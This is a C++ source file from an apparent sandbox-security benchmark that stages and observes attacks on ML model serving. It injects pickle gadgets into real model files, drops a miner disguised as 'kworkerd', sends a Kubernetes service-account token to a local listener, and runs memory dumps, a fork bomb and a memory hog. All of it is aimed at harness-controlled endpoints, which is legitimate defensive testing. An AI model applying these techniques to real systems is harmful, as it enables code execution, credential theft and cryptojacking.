// Attack plans: staging and observation per attack kind. Each attack's success is something the
// harness sees for itself: a marker file with this run's nonce, a beacon at its listener, a valid
// share at its pool, the canary in a dump, a cgroup counter.
#include "armorbench/harness/AttackPlan.h"

#include <filesystem>
#include <fstream>
#include <sstream>

#include "armorbench/attacks/BeaconListener.h"
#include "armorbench/attacks/FakeStratumPool.h"
#include "armorbench/base/Error.h"
#include "armorbench/base/Files.h"
#include "armorbench/base/Subprocess.h"
#include "armorbench/harness/Workspace.h"

namespace armorbench {
namespace fs = std::filesystem;
using nlohmann::json;
using std::chrono::milliseconds;

namespace {

constexpr const char* kMarker = "/tmp/abx-marker";

std::string base64(const std::string& bytes) {
  static const char* alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  out.reserve((bytes.size() + 2) / 3 * 4);
  std::size_t i = 0;
  for (; i + 2 < bytes.size(); i += 3) {
    const unsigned v = (static_cast<unsigned char>(bytes[i]) << 16) |
                       (static_cast<unsigned char>(bytes[i + 1]) << 8) |
                       static_cast<unsigned char>(bytes[i + 2]);
    for (int shift : {18, 12, 6, 0}) out += alphabet[(v >> shift) & 63];
  }
  if (i < bytes.size()) {
    unsigned v = static_cast<unsigned char>(bytes[i]) << 16;
    if (i + 1 < bytes.size()) v |= static_cast<unsigned char>(bytes[i + 1]) << 8;
    out += alphabet[(v >> 18) & 63];
    out += alphabet[(v >> 12) & 63];
    out += i + 1 < bytes.size() ? alphabet[(v >> 6) & 63] : '=';
    out += '=';
  }
  return out;
}

// A file-marker objective: the file exists inside the sandbox and holds this run's nonce.
ObjectiveStatus observe_marker(Sandbox& sandbox, const std::string& path, const std::string& nonce,
                               const std::string& what) {
  ObjectiveStatus status;
  const auto content = sandbox.read_file(path);
  if (content && content->find(nonce) != std::string::npos) {
    status.reached = true;
    status.detail = what + ": " + path + " holds this run's nonce";
  } else {
    status.detail = content ? what + " not proven: " + path + " exists without the nonce"
                            : what + " not observed: " + path + " was not created";
  }
  status.evidence.push_back({"objective", status.detail, {{"path", path}, {"nonce", nonce}}});
  return status;
}

ObjectiveStatus observe_beacon(const attacks::BeaconListener& listener, const std::string& needle,
                               const std::string& what) {
  ObjectiveStatus status;
  if (listener.wait_for(needle, milliseconds(0))) {
    status.reached = true;
    status.detail =
        what + ": the listener on port " + std::to_string(listener.port()) + " received it";
  } else {
    status.detail = what + " not observed: " + std::to_string(listener.connections().size()) +
                    " connection(s) at the listener, none carrying it";
  }
  status.evidence.push_back({"objective", status.detail, listener.to_json()});
  return status;
}

// Attacks carried by the model file itself: a real model with a pickle gadget spliced in, the way
// fickling-style injectors do it, so the model still loads and serves.
class ModelPayloadPlan : public AttackPlan {
 public:
  ModelPayloadPlan(const CaseSpec& c, AttackContext context)
      : case_(c), context_(std::move(context)) {}

 protected:
  // Writes run_dir/model/ with model.json and the injected model, and points the workload at it.
  void inject(const ModelArtifacts& base, const fs::path& run_dir, WorkloadSpec& workload,
              const std::string& gadget, const std::vector<std::string>& gadget_args) {
    const fs::path model_dir = run_dir / "model";
    fs::create_directories(model_dir);
    fs::copy_file(base.dir / "model.json", model_dir / "model.json",
                  fs::copy_options::overwrite_existing);
    const bool plain_pickle = case_.attack.format == "pickle";
    const std::string base_file = plain_pickle ? "model.pkl" : "model.pt";
    // The server reads the file its loader expects: an attacker ships the file under that name.
    const std::string served = ModelArtifacts::file_for(case_.loader);
    std::vector<std::string> argv{"/usr/bin/python3",
                                  (context_.data_dir / "attacks/models/inject_pickle.py").string(),
                                  "--base",
                                  (base.dir / base_file).string(),
                                  "--out",
                                  (model_dir / served).string(),
                                  "--format",
                                  plain_pickle ? "pickle" : "pt",
                                  "--gadget",
                                  gadget};
    argv.insert(argv.end(), gadget_args.begin(), gadget_args.end());
    const CommandResult result = run_command(argv, std::chrono::minutes(2));
    if (result.timed_out || !result.status.exited_ok())
      throw harness_error("injecting the payload failed (" + result.status.describe() +
                          "): " + result.err);
    workload.model_dir = model_dir;
    workload.model_file = served;
  }

  // builtins.exec of a payload script from attacks/payloads with its PARAMS.
  void inject_exec(const ModelArtifacts& base, const fs::path& run_dir, WorkloadSpec& workload,
                   const std::string& payload, const json& params) {
    const fs::path params_file = run_dir / "payload-params.json";
    std::ofstream(params_file) << params.dump();
    inject(base, run_dir, workload, "builtins.exec",
           {"--source-file", (context_.data_dir / "attacks/payloads" / payload).string(),
            "--params", "@" + params_file.string()});
  }

  const CaseSpec& case_;
  AttackContext context_;
};

// A benign case: the real model, nothing planted, no objective.
class BenignPlan final : public AttackPlan {
 public:
  void prepare(const ModelArtifacts& base, const fs::path&, const std::string&,
               WorkloadSpec& workload) override {
    workload.model_dir = base.dir;
  }
  ObjectiveStatus observe(Sandbox&) override { return {}; }
};

// Code in the pickle runs on load. Objectives: a shell or program ran (it wrote this run's nonce
// into a marker), or, for in-process Python, a beacon reached the harness or a marker was written.
class PickleInjectionPlan final : public ModelPayloadPlan {
 public:
  using ModelPayloadPlan::ModelPayloadPlan;

  void prepare(const ModelArtifacts& base, const fs::path& run_dir, const std::string& host,
               WorkloadSpec& workload) override {
    nonce_ = random_hex(16);
    const std::string& gadget = case_.attack.gadget;
    const std::string shell = "echo " + nonce_ + " > " + kMarker;
    if (gadget == "os.system") {
      inject(base, run_dir, workload, gadget, {"--command", shell});
    } else if (gadget == "subprocess.Popen" || gadget == "os.execv") {
      inject(base, run_dir, workload, gadget, {"--argv", json({"/bin/sh", "-c", shell}).dump()});
    } else if (case_.attack.action == "connect") {
      listener_ = std::make_unique<attacks::BeaconListener>("127.0.0.1");
      inject_exec(base, run_dir, workload, "reverse_connect.py",
                  {{"host", host}, {"port", listener_->port()}, {"nonce", nonce_}});
    } else {
      inject_exec(base, run_dir, workload, "write_marker.py",
                  {{"path", kMarker}, {"nonce", nonce_}});
    }
  }

  ObjectiveStatus observe(Sandbox& sandbox) override {
    if (listener_) return observe_beacon(*listener_, nonce_, "reverse beacon from the model load");
    const bool in_process = case_.attack.gadget == "builtins.exec";
    return observe_marker(sandbox, kMarker, nonce_,
                          in_process ? "in-process code wrote a file" : "a shell ran");
  }

  json objective() const override {
    if (listener_ || case_.attack.action == "connect")
      return {{"type", "connect"}, {"what", "the payload's beacon reaches a harness listener"}};
    return {{"type", "file_created"}, {"path", kMarker}, {"contains", "this run's nonce"}};
  }

 private:
  std::string nonce_;
  std::unique_ptr<attacks::BeaconListener> listener_;
};

// The load drops a real Stratum miner into /tmp and starts it; the harness's pool verifies shares.
class CryptominerPlan final : public ModelPayloadPlan {
 public:
  using ModelPayloadPlan::ModelPayloadPlan;

  void prepare(const ModelArtifacts& base, const fs::path& run_dir, const std::string& host,
               WorkloadSpec& workload) override {
    pool_ = std::make_unique<attacks::FakeStratumPool>(attacks::PoolOptions{});
    const fs::path miner = context_.bin_dir / "armorbench-miner";
    if (!fs::exists(miner))
      throw environment_error("the miner binary " + miner.string() + " is not built");
    inject_exec(base, run_dir, workload, "drop_miner.py",
                {{"binary_b64", base64(read_whole_file(miner))},
                 {"drop_path", "/tmp/.cache/kworkerd"},
                 {"host", host},
                 {"port", pool_->port()},
                 {"max_seconds", 30}});
  }

  ObjectiveStatus observe(Sandbox&) override {
    ObjectiveStatus status;
    status.reached = pool_->valid_share_count() > 0;
    status.detail = status.reached
                        ? "the pool verified " + std::to_string(pool_->valid_share_count()) +
                              " share(s) mined in the sandbox"
                        : "no valid share at the pool (" +
                              std::to_string(pool_->connections().size()) + " connection(s))";
    status.evidence.push_back({"objective", status.detail, pool_->to_json()});
    return status;
  }

  json objective() const override {
    return {{"type", "share_submitted"},
            {"what", "a valid Stratum share reaches the harness pool"}};
  }

 private:
  std::unique_ptr<attacks::FakeStratumPool> pool_;
};

// Model theft from outside the sandbox: the real model is served; the attacker reads its memory.
class MemoryDumpPlan final : public AttackPlan {
 public:
  explicit MemoryDumpPlan(const CaseSpec& c) : case_(c) {}

  void prepare(const ModelArtifacts& base, const fs::path&, const std::string&,
               WorkloadSpec& workload) override {
    workload.model_dir = base.dir;
    canary_ = base.canary_hex;
  }

  void while_serving(Sandbox& sandbox) override {
    outcome_ = sandbox.run_external_attack({case_.attack.method, case_.attack.from, canary_});
  }

  ObjectiveStatus observe(Sandbox&) override {
    ObjectiveStatus status;
    if (!outcome_.ran) {
      status.detail = "the dump did not run: " + outcome_.detail.dump();
      return status;
    }
    status.reached = outcome_.objective_reached;
    const std::string who = case_.attack.from == "host" ? "a host process" : "a sibling container";
    status.detail = status.reached ? "the weights' canary was found by " + who + " (" +
                                         case_.attack.method + ")"
                                   : "canary not found by " + who + " (" + case_.attack.method +
                                         "), attacker " + outcome_.status.describe();
    status.evidence.push_back({"objective", status.detail, outcome_.detail});
    return status;
  }

  std::vector<std::string> kernel_denials(const SandboxFinal&) const override {
    if (!outcome_.ran || !outcome_.denied) return {};
    return {"the dumping process was stopped: " + outcome_.status.describe()};
  }

  json objective() const override {
    return {{"type", "canary_found"},
            {"method", case_.attack.method},
            {"from", case_.attack.from},
            {"what", "the 32-byte canary in the model's weights is found in the dump"}};
  }

 private:
  const CaseSpec& case_;
  std::string canary_;
  ExternalAttackOutcome outcome_;
};

// The load reads a planted service-account token and sends it to a listener.
class SecretExfiltrationPlan final : public ModelPayloadPlan {
 public:
  using ModelPayloadPlan::ModelPayloadPlan;

  void prepare(const ModelArtifacts& base, const fs::path& run_dir, const std::string& host,
               WorkloadSpec& workload) override {
    token_ = "eyJhbGciOiJSUzI1NiJ9.armorbench-" + random_hex(24);
    listener_ = std::make_unique<attacks::BeaconListener>("127.0.0.1");
    inject_exec(base, run_dir, workload, "exfiltrate_secret.py",
                {{"secret_path", "/var/run/secrets/kubernetes.io/serviceaccount/token"},
                 {"host", host},
                 {"port", listener_->port()}});
    workload.planted.push_back({"/run/secrets/kubernetes.io/serviceaccount/token", token_, 0600});
  }

  ObjectiveStatus observe(Sandbox&) override {
    return observe_beacon(*listener_, token_, "the service-account token was exfiltrated");
  }

  json objective() const override {
    return {{"type", "connect"}, {"what", "the planted token reaches a harness listener"}};
  }

 private:
  std::string token_;
  std::unique_ptr<attacks::BeaconListener> listener_;
};

// An unlisted binary (the model server's interpreter) opens CUDA driver stand-ins, each holding a
// nonce, the way a hijacker grabs the GPU.
class CudaAbusePlan final : public ModelPayloadPlan {
 public:
  using ModelPayloadPlan::ModelPayloadPlan;

  void prepare(const ModelArtifacts& base, const fs::path& run_dir, const std::string&,
               WorkloadSpec& workload) override {
    nonce_ = random_hex(16);
    const std::vector<std::string> paths{"/run/nvidia/driver/usr/lib/x86_64-linux-gnu/libcuda.so.1",
                                         "/dev/nvidia0"};
    for (const std::string& path : paths)
      workload.planted.push_back({path, "stand-in " + path + " " + nonce_ + "\n", 0644});
    inject_exec(base, run_dir, workload, "open_device.py", {{"paths", paths}, {"marker", kMarker}});
  }

  ObjectiveStatus observe(Sandbox& sandbox) override {
    return observe_marker(sandbox, kMarker, nonce_,
                          "the CUDA driver stand-ins were opened and read");
  }

  json objective() const override {
    return {{"type", "file_created"},
            {"path", kMarker},
            {"what", "the contents of libcuda.so.1 / /dev/nvidia0 stand-ins are read"}};
  }

 private:
  std::string nonce_;
};

// Resource abuse bounded by the target's own limits: the positive control (no limits) shows the
// payload exceeds them; enforced runs show the kernel (cgroup) refusing it.
class ResourceAbusePlan final : public ModelPayloadPlan {
 public:
  ResourceAbusePlan(const CaseSpec& c, AttackContext context, const ResourceLimits& limits)
      : ModelPayloadPlan(c, std::move(context)), limits_(limits) {}

  void prepare(const ModelArtifacts& base, const fs::path& run_dir, const std::string&,
               WorkloadSpec& workload) override {
    if (fork_bomb()) {
      // Bounded above the limit so the unconfined control cannot hurt the host. The children
      // outlive the fork loop (they hold longer than forking takes on a loaded host), so the
      // count the payload reports is a count of processes alive at the same time.
      inject_exec(base, run_dir, workload, "fork_bomb.py",
                  {{"max_procs", *limits_.pids + 32}, {"hold_seconds", 60}, {"marker", kMarker}});
    } else {
      inject_exec(base, run_dir, workload, "memory_hog.py",
                  {{"bytes", *limits_.memory_bytes + (256ull << 20)},
                   {"hold_seconds", 4},
                   {"marker", kMarker}});
    }
  }

  ObjectiveStatus observe(Sandbox& sandbox) override {
    ObjectiveStatus status;
    const auto content = sandbox.read_file(kMarker);
    const json marker = content ? json::parse(*content, nullptr, false) : json();
    if (marker.is_discarded() || marker.is_null()) {
      status.detail = "no progress marker from the payload";
      return status;
    }
    if (fork_bomb()) {
      const std::int64_t forked = marker.value("forked", 0);
      status.reached = forked >= *limits_.pids;
      status.detail = "forked " + std::to_string(forked) + " processes; the limit is " +
                      std::to_string(*limits_.pids);
    } else {
      const std::uint64_t peak = marker.value("peak_bytes", 0ull);
      status.reached = peak > *limits_.memory_bytes;
      status.detail = "held " + std::to_string(peak >> 20) + " MiB; the limit is " +
                      std::to_string(*limits_.memory_bytes >> 20) + " MiB";
    }
    status.evidence.push_back({"objective", status.detail, marker});
    return status;
  }

  std::vector<std::string> kernel_denials(const SandboxFinal& final) const override {
    std::vector<std::string> denials;
    if (fork_bomb() && final.cgroup.pids_max_events > 0)
      denials.push_back("pids.max refused " + std::to_string(final.cgroup.pids_max_events) +
                        " fork(s)");
    if (!fork_bomb() && final.cgroup.memory_oom_kills > 0)
      denials.push_back("the memory limit's OOM killer killed " +
                        std::to_string(final.cgroup.memory_oom_kills) + " process(es)");
    if (!fork_bomb() && final.cgroup.memory_max_events > 0)
      denials.push_back("allocations hit the memory limit " +
                        std::to_string(final.cgroup.memory_max_events) + " time(s)");
    return denials;
  }

  json objective() const override {
    return fork_bomb()
               ? json{{"type", "resource_exceeded"}, {"resource", "pids"}, {"limit", *limits_.pids}}
               : json{{"type", "resource_exceeded"},
                      {"resource", "memory"},
                      {"limit_bytes", *limits_.memory_bytes}};
  }

 private:
  bool fork_bomb() const { return case_.attack.kind == AttackKind::kForkBomb; }
  ResourceLimits limits_;
};

// Bring your own: a model file and the objective its author declares.
class CustomPlan final : public AttackPlan {
 public:
  explicit CustomPlan(const CaseSpec& c) : case_(c), objective_(*c.attack.objective) {}

  void prepare(const ModelArtifacts& base, const fs::path& run_dir, const std::string&,
               WorkloadSpec& workload) override {
    const fs::path model_dir = run_dir / "model";
    fs::create_directories(model_dir);
    fs::copy_file(base.dir / "model.json", model_dir / "model.json");
    const std::string name = case_.model.file->filename();
    fs::copy_file(*case_.model.file, model_dir / name);
    workload.model_dir = model_dir;
    workload.model_file = name;
    if (objective_.kind == ObjectiveKind::kConnect) {
      try {
        listener_ = std::make_unique<attacks::BeaconListener>(
            "127.0.0.1", static_cast<std::uint16_t>(objective_.port));
      } catch (const std::system_error& e) {
        throw environment_error("cannot listen for the connect objective on port " +
                                std::to_string(objective_.port) + ": " + e.what());
      }
    }
    canary_ = objective_.canary.empty() ? base.canary_hex : objective_.canary;
  }

  void while_serving(Sandbox& sandbox) override {
    if (objective_.kind == ObjectiveKind::kCanaryFound)
      dump_ = sandbox.run_external_attack({objective_.method, "host", canary_});
  }

  ObjectiveStatus observe(Sandbox& sandbox) override {
    switch (objective_.kind) {
      case ObjectiveKind::kFileCreated: {
        ObjectiveStatus status;
        const auto content = sandbox.read_file(objective_.path);
        status.reached = content && content->find(objective_.contains) != std::string::npos;
        status.detail = status.reached
                            ? objective_.path + " was created"
                            : objective_.path + " was not created" +
                                  (objective_.contains.empty() ? "" : " with the expected text");
        if (status.reached)
          status.evidence.push_back({"objective", status.detail, {{"path", objective_.path}}});
        return status;
      }
      case ObjectiveKind::kConnect:
        return observe_beacon(*listener_, "",
                              "a connection to port " + std::to_string(objective_.port));
      case ObjectiveKind::kExec: {
        ObjectiveStatus status;
        const auto executed = sandbox.executed_paths();
        status.reached =
            std::find(executed.begin(), executed.end(), objective_.path) != executed.end();
        status.detail = status.reached ? objective_.path + " was executed"
                                       : objective_.path + " was not executed (" +
                                             std::to_string(executed.size()) + " exec(s) observed)";
        status.evidence.push_back({"objective", status.detail, {{"executed", executed}}});
        return status;
      }
      default: {
        ObjectiveStatus status;
        status.reached = dump_.objective_reached;
        status.detail = status.reached ? "the declared bytes were found in the server's memory"
                                       : "the declared bytes were not found";
        status.evidence.push_back({"objective", status.detail, dump_.detail});
        return status;
      }
    }
  }

  std::vector<std::string> kernel_denials(const SandboxFinal&) const override {
    if (dump_.ran && dump_.denied)
      return {"the dumping process was stopped: " + dump_.status.describe()};
    return {};
  }

  json objective() const override {
    json j = {{"type", to_string(objective_.kind)}};
    if (!objective_.path.empty()) j["path"] = objective_.path;
    if (objective_.port) j["port"] = objective_.port;
    return j;
  }

  bool needs_exec_watch() const override { return objective_.kind == ObjectiveKind::kExec; }

 private:
  const CaseSpec& case_;
  ObjectiveSpec objective_;
  std::unique_ptr<attacks::BeaconListener> listener_;
  std::string canary_;
  ExternalAttackOutcome dump_;
};

}  // namespace

std::unique_ptr<AttackPlan> make_attack_plan(const CaseSpec& c, const TargetSpec& target,
                                             const AttackContext& context) {
  switch (c.attack.kind) {
    case AttackKind::kNone:
      return std::make_unique<BenignPlan>();
    case AttackKind::kPickleInjection:
      return std::make_unique<PickleInjectionPlan>(c, context);
    case AttackKind::kCryptominer:
      return std::make_unique<CryptominerPlan>(c, context);
    case AttackKind::kMemoryDump:
      return std::make_unique<MemoryDumpPlan>(c);
    case AttackKind::kSecretExfiltration:
      return std::make_unique<SecretExfiltrationPlan>(c, context);
    case AttackKind::kCudaAbuse:
      return std::make_unique<CudaAbusePlan>(c, context);
    case AttackKind::kForkBomb:
    case AttackKind::kMemoryHog:
      return std::make_unique<ResourceAbusePlan>(c, context, target.limits);
    case AttackKind::kCustom:
      return std::make_unique<CustomPlan>(c);
  }
  throw harness_error("unknown attack kind");
}

}  // namespace armorbench
